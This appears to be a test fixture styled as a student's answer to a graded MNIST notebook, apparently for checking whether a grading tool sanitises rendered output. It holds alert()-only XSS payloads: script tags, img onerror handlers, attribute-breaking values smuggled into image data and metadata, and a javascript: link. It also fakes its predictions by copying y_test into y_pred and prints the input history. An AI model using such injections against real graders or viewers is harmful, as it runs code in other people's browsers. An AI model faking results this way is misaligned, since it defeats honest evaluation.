# ---
# points: {test-charger-mnist: 0, test-confusion: 0, test-predire: 0}
# ---
# Du code est glissé dans les réponses et les sorties pour s'exécuter chez qui lit le retour ; les tests y sont recopiés.

# %% charger-mnist
from IPython.display import HTML, Javascript, display

display(HTML("<script>alert(1)</script><img src=x onerror=alert(2)>"), Javascript("alert(3)"))
display({"image/png": 'iVBOR" onerror="alert(4)'}, raw=True)
display({"image/jpeg": "AAAA"}, raw=True, metadata={"image/jpeg": {"width": '1" onerror="alert(5)'}})
import matplotlib.pyplot as plt
import numpy as np
import keras
from keras import layers, models

# %% surapprentissage [markdown]
# <script>alert(6)</script> <img src="https://exemple.invalid/x" onerror="alert(7)"> [lien](javascript:alert(8))

# %% predire
print(In)
y_pred = y_test
confusion = np.diag(np.bincount(y_test))
